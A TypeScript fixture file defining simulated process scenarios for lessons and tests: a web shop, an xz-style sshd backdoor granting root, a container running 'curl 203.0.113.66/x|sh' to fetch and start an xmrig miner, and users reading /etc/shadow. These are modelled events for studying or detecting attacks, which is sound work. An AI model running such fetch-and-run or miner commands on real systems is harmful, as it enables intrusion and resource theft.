// Small worlds of processes as data, for lessons, examples and tests: who is there and what they do. Programs are not part of them.
import type { ScenarioNode, Stimulus } from './project.ts'

export interface SmallWorld {
  readonly nodes: readonly ScenarioNode[]
  readonly stimuli: readonly Stimulus[]
}

const NODE: ScenarioNode = { kind: 'host', name: 'node', interfaces: [{ name: 'eth0', addresses: ['10.0.0.1/24'] }] }

/** A shop of three containers. Users ask the front end, which asks the cart, which reads its database's file; one request in ten is slow. */
const WEB_SHOP: SmallWorld = {
  nodes: [
    NODE,
    { kind: 'pod', name: 'shop', host: 'node', address: '10.1.0.10/24', labels: { app: 'shop', tier: 'frontend' } },
    { kind: 'pod', name: 'cart', host: 'node', address: '10.1.0.11/24', labels: { app: 'cart', tier: 'backend' } },
    { kind: 'process', name: 'frontend', on: 'shop', exe: '/usr/sbin/nginx', argv: ['nginx', '-g', 'daemon off;'], uid: 0 },
    { kind: 'process', name: 'cartd', on: 'cart', exe: '/usr/local/bin/cartd', uid: 1000 },
    { kind: 'process', name: 'users', on: 'node', exe: '/usr/bin/wrk' },
  ],
  stimuli: [
    {
      kind: 'acts',
      process: 'cartd',
      text: `serve 8080 {
  accept server as c
  read c 4096
  open /var/lib/cart.db r as db
  read db 512 takes 400us
  close db
  spin 2ms in handle>price>tax
  respond c 200 '{"items":3}'
  close c
}`,
    },
    {
      kind: 'acts',
      process: 'frontend',
      text: `serve 80 {
  accept server as c
  read c 4096
  spin 300us in ngx_http_process_request
  http GET http://cart:8080/items
  respond c 200 '<h1>Shop</h1>'
  close c
}`,
    },
    {
      kind: 'acts',
      process: 'users',
      atMs: 1,
      text: `repeat 9 {
  http GET http://shop/
  sleep 3ms
}
http GET http://shop/search takes 40ms
repeat 9 {
  http GET http://shop/cart
  sleep 3ms
}
http POST http://shop/order '{"id":7}'`,
    },
  ],
}

/**
 * A login through sshd whose liblzma was tampered with: while it is loaded it makes sshd's table of functions writable and puts its own function in
 * place of RSA_public_decrypt. An honest key goes on to the real one; the attacker's is taken for a command, which runs as root before any login.
 */
const LOGIN: SmallWorld = {
  nodes: [
    NODE,
    { kind: 'process', name: 'sshd', on: 'node', exe: '/usr/sbin/sshd', argv: ['sshd: /usr/sbin/sshd -D [listener]'], pid: 822 },
    { kind: 'file', name: 'key', on: 'node', path: '/etc/ssh/ssh_host_ed25519_key', text: 'PRIVATE KEY\n', mode: 0o600 },
  ],
  stimuli: [
    {
      kind: 'acts',
      process: 'sshd',
      text: `call ld-linux-x86-64.so.2:_dl_relocate_object {
  open /usr/lib/x86_64-linux-gnu/liblzma.so.5 r as lib
  mmap 262144 rx lib
  close lib
  call liblzma.so.5:lzma_crc64 {
    call liblzma.so.5:_get_cpuid {
      mprotect 0x5555555a8000 4096 rw
      mprotect 0x5555555a8000 4096 r
    }
  }
}`,
    },
    {
      kind: 'acts',
      process: 'sshd',
      atMs: 20,
      text: `fork honest {
  open /etc/ssh/ssh_host_ed25519_key r as key
  read key 4096
  close key
  call liblzma.so.5:hooked_RSA_public_decrypt 256 'honest key' {
    call libcrypto.so.3:RSA_public_decrypt 256 'honest key' = 32 takes 150us
  }
  setuid 1000
  run /bin/bash -l {
    run /usr/bin/id
  }
}
wait honest`,
    },
    {
      kind: 'acts',
      process: 'sshd',
      atMs: 60,
      text: `fork attack {
  open /etc/ssh/ssh_host_ed25519_key r as key
  read key 4096
  close key
  call liblzma.so.5:hooked_RSA_public_decrypt 256 'attacker key' {
    call libc.so.6:system 'id > /tmp/.x' {
      run /bin/sh -c 'id > /tmp/.x' {
        open /tmp/.x w+creat 0600 as out || exit 1
        write out 'uid=0(root)'
      }
    }
  }
}
wait attack`,
    },
  ],
}

/** An application in a container is made to run a shell, which fetches a miner and starts it. */
const MINER: SmallWorld = {
  nodes: [
    NODE,
    {
      kind: 'host',
      name: 'outside',
      interfaces: [{ name: 'eth0', addresses: ['203.0.113.66/24'] }],
      servers: [
        { protocol: 'tcp', port: 80, answers: 'http', serviceMs: 2 },
        { protocol: 'tcp', port: 3333, answers: 'echo', serviceMs: 1 },
      ],
    },
    { kind: 'pod', name: 'shop', host: 'node', address: '10.1.0.10/24', labels: { app: 'shop' } },
    { kind: 'process', name: 'app', on: 'shop', exe: '/usr/bin/java', argv: ['java', '-jar', 'shop.jar'], uid: 1000 },
  ],
  stimuli: [
    {
      kind: 'acts',
      process: 'app',
      text: `open /app/shop.jar r as jar
read jar 4096
spin 3ms in main>serve>parse
run /bin/sh -c 'curl 203.0.113.66/x|sh' {
  run /usr/bin/curl -o /tmp/xmrig http://203.0.113.66/xmrig {
    http GET http://203.0.113.66/xmrig
    open /tmp/xmrig w+creat 0644 as f
    write f '\\x7fELF'
    close f
  }
  chmod /tmp/xmrig 0755
  exec /tmp/xmrig -o stratum+tcp://203.0.113.66:3333 || exit 126
  connect 203.0.113.66:3333
  write socket '{"method":"login"}'
  read socket 256
  spin 120ms in main>cn_slow_hash>aes_round
}`,
    },
  ],
}

/** At a shell, a user without rights and root each read /etc/shadow. */
const SHADOW: SmallWorld = {
  nodes: [
    NODE,
    { kind: 'process', name: 'sh-alice', on: 'node', exe: '/bin/bash', argv: ['-bash'], uid: 1000, pid: 2001 },
    { kind: 'process', name: 'sh-root', on: 'node', exe: '/bin/bash', argv: ['-bash'], pid: 2002 },
    { kind: 'file', name: 'shadow', on: 'node', path: '/etc/shadow', text: 'root:$6$x:19000:0:99999:7:::\n', mode: 0o640 },
  ],
  stimuli: [
    {
      kind: 'acts',
      process: 'sh-alice',
      text: `call readline '$ ' = 'cat /etc/shadow'
run /usr/bin/cat /etc/shadow {
  open /etc/shadow r as f || exit 1
  read f 4096
}`,
    },
    {
      kind: 'acts',
      process: 'sh-root',
      atMs: 5,
      text: `call readline '# ' = 'cat /etc/shadow'
run /usr/bin/cat /etc/shadow {
  open /etc/shadow r as f || exit 1
  read f 4096
  close f
  run /bin/true
}
run /usr/bin/cat /etc/passwd {
  open /etc/passwd r as f || exit 1
  read f 4096
}`,
    },
  ],
}

export const SMALL_WORLDS = { 'web-shop': WEB_SHOP, login: LOGIN, miner: MINER, shadow: SHADOW } as const satisfies Readonly<
  Record<string, SmallWorld>
>
